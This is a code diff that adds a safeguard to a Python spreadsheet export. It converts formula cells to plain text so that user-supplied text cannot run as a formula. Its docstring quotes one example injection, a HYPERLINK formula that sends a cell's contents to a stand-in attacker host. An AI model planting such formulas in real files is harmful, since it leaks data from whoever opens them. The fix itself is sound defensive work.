@@ -60,6 +60,7 @@ def gap_xlsx(
         if entry.section is not None:
             sheet = workbook.create_sheet(_sheet_title(entry.code, workbook.sheetnames))
             _write_principle_sheet(sheet, entry, results, language, scale_labels, dimensions or {})
+    text_cells_only(workbook)
     date = document_date(results)
     workbook.properties.created = workbook.properties.modified = date
     workbook.properties.creator = "Consult"
@@ -67,6 +68,17 @@ def gap_xlsx(
         f"{words(language)['title']} · {localised(results.get('campaign', {}).get('title'), language)}"
     )
     return _stable_bytes(workbook)
+
+
+def text_cells_only(workbook: Workbook) -> None:
+    """openpyxl stores any text beginning with ``=`` as a formula: a title, an option label or a reviewer's
+    text such as ``=HYPERLINK("http://evil.example/?leak="&B2,"x")`` would run when the file is opened.
+    This workbook holds no formula of its own, so every such cell is made a string cell again."""
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    cell.data_type = "s"
 
 
 def _stable_bytes(workbook: Workbook) -> bytes:
